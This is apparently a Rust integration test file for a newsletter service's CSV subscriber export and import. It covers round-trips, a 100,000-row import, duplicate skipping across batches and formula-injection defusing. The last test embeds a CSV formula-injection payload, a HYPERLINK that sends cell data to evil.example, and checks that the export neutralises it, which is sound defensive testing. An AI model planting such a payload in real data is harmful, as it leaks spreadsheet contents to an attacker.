//! An export that imports back, a 100,000-row file, and repeats across
//! batches.

use std::collections::{BTreeSet, HashSet};
use std::time::Instant;

use serde_json::Value;

use crate::helpers::{random_hex, set_status, spawn_app};

use super::*;

#[tokio::test]
async fn an_export_imports_back_into_another_newsletter() {
    let app = spawn_app().await;
    app.add_newsletter("daily", "Daily").await;
    app.add_newsletter("weekly", "Weekly").await;
    let run = random_hex(10);
    let names = ["Ada", "Lovelace, Ada", "\"Quoted\" Name", "Ünïcødé", ""];
    let mut csv = String::from("email,name\n");
    for (i, name) in names.iter().enumerate() {
        let name = name.replace('"', "\"\"");
        csv.push_str(&format!("{},\"{name}\"\n", addr(&format!("r{i}"), &run)));
    }
    let confirmed = "?confirmed=true&consent=exported";
    let summary = import(&app, &format!("{IMPORT}{confirmed}"), csv).await;
    assert_eq!(summary["imported"], 5, "{summary}");
    let unsubscribed = addr("r0", &run);
    let r = set_status(&app, "daily", &unsubscribed, "unsubscribed").await;
    assert_eq!(r.status(), 200);

    let exported = export(&app, "daily", "").await;
    let rows = export_rows(&exported);
    assert_eq!(rows.len(), 5);
    let first = csv::Reader::from_reader(exported.as_bytes())
        .records()
        .next()
        .unwrap()
        .unwrap();
    assert!(
        chrono::DateTime::parse_from_rfc3339(&first[3]).is_ok(),
        "{exported}"
    );
    assert!(
        chrono::DateTime::parse_from_rfc3339(&first[5]).is_ok(),
        "{exported}"
    );
    let confirmed_only = export_rows(&export(&app, "daily", "?status=confirmed").await);
    assert_eq!(confirmed_only.len(), 4);

    let weekly = "/api/admin/newsletters/weekly/subscribers/import";
    let summary = import(&app, &format!("{weekly}{confirmed}"), exported).await;
    assert_eq!(summary["imported"], 5, "{summary}");
    let pairs = |rows: Vec<(String, String, String)>| -> BTreeSet<(String, String)> {
        rows.into_iter().map(|(e, n, _)| (e, n)).collect()
    };
    let back = export_rows(&export(&app, "weekly", "").await);
    assert_eq!(pairs(back), pairs(rows));
}

#[tokio::test]
async fn a_100k_row_import_is_exact_and_exports_whole() {
    const ROWS: usize = 100_000;
    let app = spawn_app().await;
    app.add_newsletter("daily", "Daily").await;
    let run = random_hex(8);
    // Every 1000th row repeats the one before it; every 10,000th is invalid.
    let mut csv = String::with_capacity(ROWS * 40);
    csv.push_str("email,name\n");
    let mut expected = HashSet::new();
    let mut invalid_lines = Vec::new();
    for i in 0..ROWS {
        let line = i as u64 + 2;
        if i % 10_000 == 5_000 {
            csv.push_str("not an address,\n");
            invalid_lines.push(line);
        } else if i % 1000 == 999 {
            csv.push_str(&format!("bulk{}-{run}@example.com,\n", i - 1));
        } else {
            let email = format!("bulk{i}-{run}@example.com");
            csv.push_str(&format!("{email},Reader {i}\n"));
            expected.insert(email);
        }
    }
    let started = Instant::now();
    let summary = import(
        &app,
        &format!("{IMPORT}?confirmed=true&consent=bulk%20test"),
        csv,
    )
    .await;
    let took = started.elapsed();
    assert_eq!(summary["imported"], expected.len() as u64, "{summary}");
    assert_eq!(summary["imported"], 99_890);
    assert_eq!(summary["skipped"], 100);
    assert_eq!(summary["invalid_total"], 10);
    let lines: Vec<u64> = summary["invalid"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["line"].as_u64().unwrap())
        .collect();
    assert_eq!(lines, invalid_lines);
    eprintln!("imported {ROWS} rows in {took:?}");

    let exported = export(&app, "daily", "").await;
    let rows = export_rows(&exported);
    assert_eq!(rows.len(), expected.len());
    let got: HashSet<String> = rows.into_iter().map(|(e, _, _)| e).collect();
    assert_eq!(got, expected);
}

#[tokio::test]
async fn repeats_in_other_batches_are_skipped_and_the_first_name_kept() {
    // More rows than any backend's batch, then the same addresses again in
    // reverse with other names: every repeat lands in another batch than
    // its first occurrence, some right across a batch boundary.
    const ROWS: usize = 12_000;
    let app = spawn_app().await;
    app.add_newsletter("daily", "Daily").await;
    let run = random_hex(8);
    let email = |i: usize| format!("rep{i}-{run}@example.com");
    let mut csv = String::from("email,name\n");
    for i in 0..ROWS {
        csv.push_str(&format!("{},First {i}\n", email(i)));
    }
    for i in (0..ROWS).rev() {
        csv.push_str(&format!("{},Second {i}\n", email(i)));
    }
    let summary = import(
        &app,
        &format!("{IMPORT}?confirmed=true&consent=repeats"),
        csv,
    )
    .await;
    assert_eq!(summary["imported"], ROWS as u64, "{summary}");
    assert_eq!(summary["skipped"], ROWS as u64, "{summary}");
    assert_eq!(summary["invalid_total"], 0, "{summary}");

    let rows = export_rows(&export(&app, "daily", "").await);
    assert_eq!(rows.len(), ROWS);
    for (email, name, status) in rows {
        let i: usize = email[3..email.find('-').unwrap()].parse().unwrap();
        assert_eq!(name, format!("First {i}"), "{email}");
        assert_eq!(status, "confirmed");
    }
    // One consent record per imported address, none for the repeats.
    let data: Value = app
        .admin_get(&format!("/api/admin/subscribers/{}", email(ROWS - 1)))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(data["consent"].as_array().unwrap().len(), 1, "{data}");
}

/// A public signup named like a spreadsheet formula is exported inert
/// (`'=…`), and the export still imports back to the very same name.
#[tokio::test]
async fn formulas_in_names_are_exported_inert_and_import_back_unchanged() {
    let app = spawn_app().await;
    app.add_newsletter("daily", "Daily").await;
    app.add_newsletter("weekly", "Weekly").await;
    let run = random_hex(10);
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
    let names = [formula, "+1+1", "-2", "@SUM(A1:A9)", "Plain"];
    for (i, name) in names.iter().enumerate() {
        let r = app
            .post_json(
                "/subscriptions",
                &serde_json::json!({ "email": addr(&format!("f{i}"), &run), "name": name, "newsletter": "daily" }),
            )
            .await;
        assert_eq!(r.status(), 202);
    }
    let exported = export(&app, "daily", "").await;
    for name in &names[..4] {
        let cell = format!("'{name}").replace('"', "\"\"");
        assert!(exported.contains(&cell), "{name} not defused in {exported}");
    }
    for line in exported.lines().skip(1) {
        let second = line
            .split(',')
            .nth(1)
            .unwrap_or_default()
            .trim_start_matches('"');
        assert!(!second.starts_with(['=', '+', '-', '@']), "{line}");
    }
    let weekly = "/api/admin/newsletters/weekly/subscribers/import?confirmed=true&consent=x";
    let summary = import(&app, weekly, exported).await;
    assert_eq!(summary["imported"], 5, "{summary}");
    let back: HashSet<String> = export_rows(&export(&app, "weekly", "").await)
        .into_iter()
        .map(|(_, n, _)| n)
        .collect();
    let want: HashSet<String> = names
        .iter()
        .map(|n| format!("'{n}").replace("'Plain", "Plain"))
        .collect();
    assert_eq!(
        back, want,
        "the export of the import is the same, inert again"
    );
}
